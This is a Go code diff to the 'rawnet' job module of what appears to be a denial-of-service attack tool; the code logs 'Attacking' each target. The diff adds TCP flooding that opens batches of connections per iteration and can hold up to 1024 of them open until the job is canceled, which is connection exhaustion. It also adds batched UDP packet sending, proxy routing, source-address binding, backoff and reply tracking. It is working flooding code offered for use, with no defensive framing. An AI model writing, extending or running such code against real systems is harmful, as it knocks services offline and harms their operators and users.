@@ -24,10 +24,12 @@ package job
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"log"
 	"net"
 	"strings"
+	"sync"
 	"text/template"
 	"time"
 
@@ -47,13 +49,21 @@ type rawnetConfig struct {
 	bodyTpl   *template.Template
 	proxyURLs string
 	timeout   time.Duration
+	localAddr net.Addr // source address of outgoing connections, nil means any
+
+	connectionsPerIteration int  // tcp only, 0 means a single connection that is written to until it fails
+	keepOpen                bool // tcp only, hold connections opened with connectionsPerIteration until the job is canceled
+	maxOpen                 int  // tcp only, the oldest held connections are closed past it
+	packetsPerIteration     int  // udp only
+
+	replies *replyConfig // udp only, nil means packets are sent without waiting for replies
 }
 
 func tcpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
 	ctx, cancel := context.WithCancel(ctx)
 	defer cancel()
 
-	jobConfig, err := parseRawNetJobArgs(ctx, logger, globalConfig, args)
+	jobConfig, err := parseRawNetJobArgs(ctx, logger, globalConfig, args, "tcp")
 	if err != nil {
 		return nil, err
 	}
@@ -64,7 +74,7 @@ func tcpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig,
 		jobConfig.proxyURLs = templates.ParseAndExecute(logger, globalConfig.ProxyURLs, ctx)
 	}
 
-	trafficMonitor := metrics.Default.NewWriter(metrics.Traffic, uuid.New().String())
+	trafficMonitor := jobConfig.newTrafficMonitor()
 	go trafficMonitor.Update(ctx, time.Second)
 
 	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
@@ -74,6 +84,12 @@ func tcpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig,
 		log.Printf("Attacking %v", jobConfig.addr)
 	}
 
+	if jobConfig.connectionsPerIteration > 0 {
+		floodTCP(ctx, logger, jobConfig, &backoffController, trafficMonitor, processedTrafficMonitor)
+
+		return nil, nil
+	}
+
 	for jobConfig.Next(ctx) {
 		err = sendTCP(ctx, logger, jobConfig, trafficMonitor, processedTrafficMonitor)
 		if err != nil {
@@ -86,20 +102,64 @@ func tcpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig,
 	return nil, nil
 }
 
-func sendTCP(ctx context.Context, logger *zap.Logger, jobConfig *rawnetConfig, trafficMonitor, processedTrafficMonitor *metrics.Writer) error {
+// floodTCP opens a batch of connections on each iteration and either closes them right after sending the payload or holds them
+func floodTCP(ctx context.Context, logger *zap.Logger, jobConfig *rawnetConfig, backoffController *utils.BackoffController,
+	trafficMonitor, processedTrafficMonitor *metrics.Writer,
+) {
+	var held []net.Conn
+
+	defer func() {
+		for _, conn := range held {
+			conn.Close()
+		}
+	}()
+
+	for jobConfig.Next(ctx) {
+		var err error
+
+		for i := 0; i < jobConfig.connectionsPerIteration && err == nil; i++ {
+			var conn net.Conn
+
+			if conn, err = openTCP(ctx, logger, jobConfig, trafficMonitor, processedTrafficMonitor); err != nil {
+				break
+			}
+
+			if jobConfig.keepOpen {
+				// the oldest connections make room for the new ones so that the job doesn't run out of file descriptors
+				if held = append(held, conn); len(held) > jobConfig.maxOpen {
+					held[0].Close()
+					held = held[1:]
+				}
+			} else {
+				conn.Close()
+			}
+		}
+
+		if err != nil {
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+		} else {
+			backoffController.Reset()
+		}
+	}
+
+	// the connections are held even when the iteration limit is reached
+	if len(held) > 0 {
+		<-ctx.Done()
+	}
+}
+
+func dialTCP(logger *zap.Logger, jobConfig *rawnetConfig, trafficMonitor, processedTrafficMonitor *metrics.Writer) (net.Conn, error) {
 	// track sending of SYN packet
 	trafficMonitor.Add(packetgen.TCPHeaderSize + packetgen.IPHeaderSize)
 
-	conn, err := utils.GetProxyFunc(jobConfig.proxyURLs, jobConfig.timeout)("tcp", jobConfig.addr)
+	conn, err := utils.GetProxyFuncFrom(jobConfig.proxyURLs, jobConfig.timeout, jobConfig.localAddr)("tcp", jobConfig.addr)
 	if err != nil {
 		logger.Debug("error connecting via tcp", zap.String("addr", jobConfig.addr), zap.Error(err))
 		metrics.IncRawnetTCP(jobConfig.addr, metrics.StatusFail)
 
-		return err
+		return nil, err
 	}
 
-	defer conn.Close()
-
 	// if we got here the connection was successful and thus we need to track SYN
 	processedTrafficMonitor.Add(packetgen.TCPHeaderSize + packetgen.IPHeaderSize)
 
@@ -107,6 +167,43 @@ func sendTCP(ctx context.Context, logger *zap.Logger, jobConfig *rawnetConfig, t
 	trafficMonitor.Add(packetgen.TCPHeaderSize + packetgen.IPHeaderSize)
 	processedTrafficMonitor.Add(packetgen.TCPHeaderSize + packetgen.IPHeaderSize)
 
+	return conn, nil
+}
+
+// openTCP connects to the target and sends the payload once (if there is one)
+func openTCP(ctx context.Context, logger *zap.Logger, jobConfig *rawnetConfig, trafficMonitor, processedTrafficMonitor *metrics.Writer) (net.Conn, error) {
+	conn, err := dialTCP(logger, jobConfig, trafficMonitor, processedTrafficMonitor)
+	if err != nil {
+		return nil, err
+	}
+
+	if payload := templates.Execute(logger, jobConfig.bodyTpl, ctx); payload != "" {
+		n, err := conn.Write([]byte(payload))
+		trafficMonitor.Add(uint64(n) + packetgen.TCPHeaderSize + packetgen.IPHeaderSize)
+
+		if err != nil {
+			conn.Close()
+			metrics.IncRawnetTCP(jobConfig.addr, metrics.StatusFail)
+
+			return nil, err
+		}
+
+		processedTrafficMonitor.Add(uint64(n))
+	}
+
+	metrics.IncRawnetTCP(jobConfig.addr, metrics.StatusSuccess)
+
+	return conn, nil
+}
+
+func sendTCP(ctx context.Context, logger *zap.Logger, jobConfig *rawnetConfig, trafficMonitor, processedTrafficMonitor *metrics.Writer) error {
+	conn, err := dialTCP(logger, jobConfig, trafficMonitor, processedTrafficMonitor)
+	if err != nil {
+		return err
+	}
+
+	defer conn.Close()
+
 	// Write to conn until error
 	for jobConfig.Next(ctx) {
 		n, err := conn.Write([]byte(templates.Execute(logger, jobConfig.bodyTpl, ctx)))
@@ -129,7 +226,7 @@ func udpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig,
 	ctx, cancel := context.WithCancel(ctx)
 	defer cancel()
 
-	jobConfig, err := parseRawNetJobArgs(ctx, logger, globalConfig, args)
+	jobConfig, err := parseRawNetJobArgs(ctx, logger, globalConfig, args, "udp")
 	if err != nil {
 		return nil, err
 	}
@@ -139,16 +236,28 @@ func udpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig,
 		return nil, err
 	}
 
-	trafficMonitor := metrics.Default.NewWriter(metrics.Traffic, uuid.New().String())
+	tracker, err := newReplyTracker(jobConfig.replies, udpAddr.String(), "udp")
+	if err != nil {
+		return nil, err
+	}
+
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
 	go trafficMonitor.Update(ctx, time.Second)
 
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
 	if !isInEncryptedContext(ctx) {
 		log.Printf("Attacking %v", jobConfig.addr)
 	}
 
-	conn, err := net.DialUDP("udp", nil, udpAddr)
+	localAddr, _ := jobConfig.localAddr.(*net.UDPAddr)
+
+	conn, err := net.DialUDP("udp", localAddr, udpAddr)
 	if err != nil {
-		logger.Debug("error connecting via tcp", zap.Reflect("addr", udpAddr), zap.Error(err))
+		logger.Debug("error connecting via udp", zap.Reflect("addr", udpAddr), zap.Error(err))
 		metrics.IncRawnetUDP(udpAddr.String(), metrics.StatusFail)
 
 		return nil, err
@@ -156,39 +265,102 @@ func udpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig,
 
 	defer conn.Close()
 
+	if tracker != nil {
+		var wg sync.WaitGroup
+
+		wg.Add(1)
+
+		go func() {
+			defer wg.Done()
+			defer utils.PanicHandler(logger)
+
+			tracker.listen(ctx, conn, func(size int) {
+				processedTrafficMonitor.Add(uint64(size) + packetgen.UDPHeaderSize + packetgen.IPHeaderSize)
+			})
+		}()
+
+		// the listener is stopped by closing the connection as it can be blocked in a read
+		defer wg.Wait()
+		defer conn.Close()
+	}
+
 	for jobConfig.Next(ctx) {
-		sendUDP(ctx, logger, udpAddr, conn, jobConfig.bodyTpl, trafficMonitor)
+		if err := sendUDP(ctx, logger, udpAddr, conn, jobConfig, tracker, trafficMonitor); err != nil {
+			logger.Debug("error sending udp packet", zap.String("addr", udpAddr.String()), zap.Error(err))
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+		} else {
+			backoffController.Reset()
+		}
 	}
 
-	return nil, nil
+	if tracker == nil {
+		return nil, nil
+	}
+
+	tracker.flush(ctx)
+
+	return tracker.stats(), nil
 }
 
-func sendUDP(ctx context.Context, logger *zap.Logger, a *net.UDPAddr, conn *net.UDPConn, bodyTpl *template.Template, trafficMonitor *metrics.Writer) {
-	n, err := conn.Write([]byte(templates.Execute(logger, bodyTpl, ctx)))
-	if err != nil {
-		metrics.IncRawnetUDP(a.String(), metrics.StatusFail)
+// sendUDP sends a batch of packets executing the payload template for each of them, udp has no delivery guarantees
+// so only send errors (i.e. EPERM or ENOBUFS) are tracked unless the tracker waits for replies
+func sendUDP(ctx context.Context, logger *zap.Logger, a *net.UDPAddr, conn *net.UDPConn, jobConfig *rawnetConfig, tracker *replyTracker,
+	trafficMonitor *metrics.Writer,
+) error {
+	for i := 0; i < jobConfig.packetsPerIteration; i++ {
+		packet := []byte(templates.Execute(logger, jobConfig.bodyTpl, ctx))
+
+		// registered upfront as the reply can come before the write returns
+		tracker.sent(packet)
 
-		return
+		n, err := conn.Write(packet)
+		if err != nil {
+			tracker.unsent(packet)
+			metrics.IncRawnetUDP(a.String(), metrics.StatusFail)
+
+			return err
+		}
+
+		trafficMonitor.Add(uint64(n) + packetgen.UDPHeaderSize + packetgen.IPHeaderSize)
+		metrics.IncRawnetUDP(a.String(), metrics.StatusSuccess)
 	}
 
-	trafficMonitor.Add(uint64(n) + packetgen.UDPHeaderSize + packetgen.IPHeaderSize)
-	metrics.IncRawnetUDP(a.String(), metrics.StatusSuccess)
+	return nil
 }
 
-func parseRawNetJobArgs(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (tpl *rawnetConfig, err error) {
+func parseRawNetJobArgs(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args, network string) (tpl *rawnetConfig, err error) {
 	var jobConfig struct {
 		BasicJobConfig
 
 		Address   string
 		Body      string
+		Payload   string // alias for Body
 		ProxyURLs string `mapstructure:"proxy_urls"`
 		Timeout   *time.Duration
+		LocalAddr string `mapstructure:"local_addr"`
+
+		ConnectionsPerIteration int  `mapstructure:"connections_per_iteration"`
+		KeepOpen                bool `mapstructure:"keep_open"`
+		MaxOpen                 *int `mapstructure:"max_open"`
+		PacketsPerIteration     *int `mapstructure:"packets_per_iteration"`
+		Replies                 *replyConfig
 	}
 
 	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
 		return nil, fmt.Errorf("error decoding rawnet job config: %w", err)
 	}
 
+	const defaultMaxOpen = 1024
+
+	maxOpen := utils.NonNilIntOrDefault(jobConfig.MaxOpen, defaultMaxOpen)
+	if jobConfig.KeepOpen && maxOpen <= 0 {
+		return nil, errors.New("max_open has to be positive")
+	}
+
+	if jobConfig.Body == "" {
+		jobConfig.Body = jobConfig.Payload
+	}
+
 	bodyTpl, err := templates.Parse(jobConfig.Body)
 	if err != nil {
 		return nil, fmt.Errorf("error parsing body template %q: %w", jobConfig.Body, err)
@@ -197,11 +369,23 @@ func parseRawNetJobArgs(ctx context.Context, logger *zap.Logger, globalConfig *G
 	targetAddress := strings.TrimSpace(templates.ParseAndExecute(logger, jobConfig.Address, ctx))
 	proxyURLs := templates.ParseAndExecute(logger, jobConfig.ProxyURLs, ctx)
 
+	localAddr, err := utils.ResolveLocalAddr(network, jobConfig.LocalAddr)
+	if err != nil {
+		return nil, err
+	}
+
 	return &rawnetConfig{
 		BasicJobConfig: jobConfig.BasicJobConfig,
 		addr:           targetAddress,
 		bodyTpl:        bodyTpl,
 		proxyURLs:      proxyURLs,
 		timeout:        utils.NonNilDurationOrDefault(jobConfig.Timeout, time.Minute),
+		localAddr:      localAddr,
+
+		connectionsPerIteration: jobConfig.ConnectionsPerIteration,
+		keepOpen:                jobConfig.KeepOpen,
+		maxOpen:                 maxOpen,
+		packetsPerIteration:     utils.NonNilIntOrDefault(jobConfig.PacketsPerIteration, 1),
+		replies:                 jobConfig.Replies,
 	}, nil
 }